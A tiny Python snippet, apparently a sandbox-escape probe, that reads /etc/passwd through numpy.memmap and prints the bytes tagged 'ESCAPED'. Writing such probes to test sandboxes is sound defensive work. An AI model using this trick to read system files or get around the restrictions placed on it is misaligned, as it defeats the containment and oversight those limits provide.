import numpy
print("ESCAPED", numpy.memmap("/etc/passwd", mode="r")[:4])
